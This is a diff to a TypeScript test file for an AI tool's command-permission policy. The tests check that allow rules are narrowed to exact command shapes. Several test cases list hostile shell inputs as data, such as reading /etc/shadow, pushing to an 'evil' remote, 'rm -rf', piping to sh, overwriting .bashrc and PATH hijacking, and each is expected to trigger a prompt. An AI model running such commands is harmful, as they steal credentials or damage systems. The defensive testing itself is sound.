@@ -1,4 +1,4 @@
-import { symlinkSync } from "node:fs";
+import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { SymbolId, Uri } from "@octant/core";
 import fc from "fast-check";
@@ -170,30 +170,121 @@ test("the reason that reaches a model names the rule, but no place outside the w
   expect(reason).toBe(`keys stay (rule 'deny fs.* {"path":["…",".env"]}' of the user settings)`);
 });
 
+const shape = (words: string, options: readonly string[] = [], operands = "none") => ({
+  words: words.split(" "),
+  options,
+  operands,
+});
+
 test.each([
   ["fs.write", { uri: "src/deep/new.ts" }, { path: ["src/deep/*"] }],
   ["fs.write", { uri: "top.md" }, { path: ["top.md"] }],
   ["fs.rm", { uri: "src/deep" }, { path: ["src/deep/**"] }],
   ["fs.write", { uri: "src/[id] (x)/a.ts" }, { path: ["src/\\[id\\] \\(x\\)/*"] }],
-  ["proc.exec", { command: ["npm", "run", "build", "--", "-x"] }, { command: [["npm", "run", "build"]] }],
+  [
+    "proc.exec",
+    { command: ["npm", "run", "build", "--", "-x"] },
+    { command: [shape("npm run build", ["--", "-x"])] },
+  ],
   [
     "proc.exec",
     { command: "git status && npm test | head -5" },
     {
+      command: [shape("git status"), shape("npm test"), shape("head -5")],
+    },
+  ],
+  ["proc.exec", { command: "git commit -m 'a b'" }, { command: [shape("git commit", ["-m"], "inside")] }],
+  [
+    "proc.exec",
+    { command: "echo 'a && b' && git diff --stat src/a.ts 2>&1" },
+    {
       command: [
-        ["git", "status"],
-        ["npm", "test"],
-        ["head", "-5"],
+        { words: ["echo", "a && b"], options: [], operands: "none" },
+        shape("git diff", ["--stat"], "inside"),
       ],
     },
   ],
-  ["proc.exec", { command: "git commit -m 'a b'" }, { command: [["git", "commit"]] }],
+  ["proc.exec", { command: "cat /etc/hosts" }, { command: [shape("cat /etc/hosts")] }],
+  ["proc.exec", { command: "git show HEAD:a" }, { command: [shape("git show HEAD:a")] }],
+  [
+    "proc.exec",
+    { command: "cd src && git add a.ts" },
+    { command: [shape("cd src"), shape("git add", [], "inside")] },
+  ],
   ["net.fetch", { url: "https://API.example.com/x" }, { host: ["api.example.com:443"] }],
   ["vcs.push", { branch: "main" }, undefined],
   ["mcp__git__log", { any: "thing" }, undefined],
 ] as const)("a narrow rule for %s %j", (name, input, args) => {
   const rule = createPolicy([], places).narrowRule({ name, input, action: fixture.actions.get(name) });
   expect(rule).toEqual({ tool_pattern: name, mode: "allow", ...(args && { args }) });
+});
+
+test("a shape allows the same options and names inside the project, and nothing else", () => {
+  const rule = (command: string) =>
+    createPolicy([], places).narrowRule({
+      name: "proc.exec",
+      input: { command },
+      action: fixture.actions.get("proc.exec"),
+    });
+  const modeUnder = (made: string, command: string) => {
+    const policy = createPolicy([{ tier: "local", rules: [rule(made) as PermissionRule] }], places);
+    return policy.evaluate({
+      name: "proc.exec",
+      input: { command },
+      action: fixture.actions.get("proc.exec"),
+    }).mode;
+  };
+  const covered = [
+    ["git diff --stat src/a.ts", "git diff src/b.ts src/a.ts"],
+    ["cd src && git add a.ts", "cd src && git add b.ts"],
+    ["npm test", "npm test 2>&1"],
+  ] as const;
+  for (const [made, line] of covered) expect(modeUnder(made, line), line).toBe("allow");
+  const asked = [
+    ["git diff --stat src/a.ts", "git diff --output=x src/a.ts"],
+    ["git diff --stat src/a.ts", "git diff ../../etc/passwd"],
+    ["git diff --stat src/a.ts", "git diff /etc/passwd"],
+    ["git push", "git push git@evil:x"],
+    ["npm install", "npm install evil"],
+    ["make test", "make test SHELL=./evil"],
+    ["cat /etc/hosts", "cat /etc/hosts /etc/shadow"],
+    ["cd src && git add a.ts", "cd src; git add a.ts"],
+    ["cd src && git add a.ts", "cd src && cd .. && git add a.ts"],
+  ] as const;
+  for (const [made, line] of asked) expect(modeUnder(made, line), line).toBe("prompt");
+});
+
+test("a shape holds only while its program is the same file", () => {
+  const bin = join(fixture.root, "tools-bin");
+  mkdirSync(bin, { recursive: true });
+  const call = {
+    name: "proc.exec",
+    input: { command: "tool run a" },
+    action: fixture.actions.get("proc.exec"),
+  };
+  const found = () => createPolicy([], { ...places, searchPath: `${bin}:/usr/bin` }).narrowRule(call);
+  expect(found()?.args?.command).toEqual([shape("tool run a")]);
+  writeFileSync(join(bin, "tool"), "", { mode: 0o755 });
+  const rule = found() as PermissionRule;
+  expect(rule.args?.command).toEqual([{ ...shape("tool run a"), program: join(bin, "tool") }]);
+  const mode = (searchPath: string) =>
+    createPolicy([{ tier: "local", rules: [rule] }], { ...places, searchPath }).evaluate(call).mode;
+  expect(mode(bin)).toBe("allow");
+  expect(mode("/usr/bin")).toBe("prompt");
+});
+
+test("an expired rule is as if it were absent", () => {
+  const rule = (expires_at?: string) =>
+    PermissionRule.parse({ tool_pattern: "fs.write", mode: "allow", ...(expires_at && { expires_at }) });
+  const mode = (...rules: PermissionRule[]) =>
+    createPolicy([{ tier: "local", rules }], places).evaluate({
+      name: "fs.write",
+      input: { uri: "a" },
+      action: fixture.actions.get("fs.write"),
+    }).mode;
+  expect(mode(rule("2020-01-01T00:00:00Z"))).toBe("prompt");
+  expect(mode(rule("2020-01-01T00:00:00Z"), rule())).toBe("allow");
+  expect(mode(rule("2999-01-01T00:00:00Z"))).toBe("allow");
 });
 
 test("an allow rule for one command never covers a line with another one", () => {
@@ -220,7 +311,10 @@ test.each([
   ["proc.exec", { command: "git status && rm -rf x" }],
   ["proc.exec", { command: "git status && $(evil)" }],
   ["proc.exec", { command: "git log | sh" }],
-  ["proc.exec", { command: "echo 'a && b' && git status" }],
+  ["proc.exec", { command: "if true; then rm x; fi" }],
+  ["proc.exec", { command: "hash -p x git && git status" }],
+  ["proc.exec", { command: "python3 -c 1" }],
+  ["proc.exec", { command: "echo 1 | node" }],
   ["proc.exec", { command: "git status & rm x" }],
   ["proc.exec", { command: "git status > .bashrc" }],
   ["proc.exec", { command: ["git", "status"], env: { PATH: "." } }],
